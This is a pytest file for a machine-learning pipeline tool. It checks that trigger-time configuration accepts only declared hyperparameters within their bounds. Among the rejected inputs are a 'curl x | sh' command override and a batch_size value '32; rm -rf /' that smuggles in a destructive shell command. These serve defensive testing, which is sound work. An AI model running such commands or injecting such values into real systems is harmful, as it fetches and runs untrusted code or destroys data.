"""Trigger-time conf: only declared hyperparameters, in range, or the run stops before training."""

from __future__ import annotations

import pytest

from trainyard.config.loading import available_environments, load_environment, load_pipeline
from trainyard.validate.trigger_conf import ConfRejected, param_schemas, validate_conf


@pytest.fixture
def pipeline(config_dirs):
    pipelines, environments = config_dirs
    return load_pipeline(
        pipelines / "tweet-sentiment.yaml",
        load_environment("prod", environments),
        available_environments(environments),
    )


def test_no_conf_keeps_the_pipeline_values(pipeline):
    assert validate_conf(pipeline, {}) == pipeline.config.training
    assert validate_conf(pipeline, None).epochs == 3


def test_declared_overrides_apply(pipeline):
    hp = validate_conf(pipeline, {"epochs": 2, "learning_rate": 1e-4, "max_steps": None})
    assert (hp.epochs, hp.learning_rate, hp.batch_size) == (2, 1e-4, 32)


@pytest.mark.parametrize(
    ("conf", "fragment"),
    [
        ({"image": "evil:1"}, "'image' is not a known setting"),
        ({"namespace": "kube-system"}, "'namespace' is not a known setting"),
        ({"priority_class": "system-cluster-critical"}, "'priority_class' is not a known setting"),
        ({"service_account": "admin"}, "'service_account' is not a known setting"),
        ({"command": ["sh", "-c", "curl x | sh"]}, "'command' is not a known setting"),
        ({"gpus": 64}, "'gpus' is not a known setting"),
        ({"resources": {"gpus": 64}}, "'resources' is not a known setting"),
        ({"seed": 1}, "'seed' is not overridable in this pipeline"),
        ({"learning_rat": 0.1}, "did you mean 'learning_rate'"),
    ],
)
def test_undeclared_keys_are_refused_listing_the_allowed_ones(pipeline, conf, fragment):
    with pytest.raises(ConfRejected) as info:
        validate_conf(pipeline, conf)
    message = str(info.value)
    assert fragment in message
    assert "Allowed keys: epochs, learning_rate, batch_size, max_steps, force_retrain." in message


@pytest.mark.parametrize(
    ("conf", "fragment"),
    [
        ({"learning_rate": -1}, "'learning_rate' = -1: Input should be greater than 0"),
        ({"epochs": 1000}, "'epochs' = 1000: Input should be less than or equal to 100"),
        ({"batch_size": "32; rm -rf /"}, "'batch_size' = '32; rm -rf /'"),
        ({"batch_size": 1.5}, "'batch_size' = 1.5"),
        ({"max_steps": 0}, "'max_steps' = 0"),
    ],
)
def test_out_of_range_or_wrong_type_is_refused(pipeline, conf, fragment):
    with pytest.raises(ConfRejected, match="Trigger conf rejected for pipeline 'tweet-sentiment'") as info:
        validate_conf(pipeline, conf)
    assert fragment in str(info.value)


def test_param_schemas_carry_types_bounds_and_defaults(pipeline):
    schemas = param_schemas(pipeline)
    assert list(schemas) == ["force_retrain", "epochs", "learning_rate", "batch_size", "max_steps"]
    assert schemas["epochs"]["default"] == 3
    assert schemas["batch_size"] == {
        "type": "integer",
        "minimum": 1,
        "maximum": 4096,
        "description": "Examples per device per step.",
        "default": 32,
    }
    assert schemas["max_steps"]["type"] == ["integer", "null"]


def test_force_retrain_is_the_one_reserved_key_and_must_be_a_boolean(pipeline):
    from trainyard.validate.trigger_conf import force_retrain

    assert validate_conf(pipeline, {"force_retrain": True, "epochs": 2}).epochs == 2
    assert force_retrain(pipeline, {"force_retrain": True}) is True
    assert force_retrain(pipeline, {}) is False
    with pytest.raises(ConfRejected, match="'force_retrain' = 'yes': must be true or false"):
        validate_conf(pipeline, {"force_retrain": "yes"})
    with pytest.raises(ConfRejected, match="did you mean 'force_retrain'"):
        validate_conf(pipeline, {"force_retrian": True})
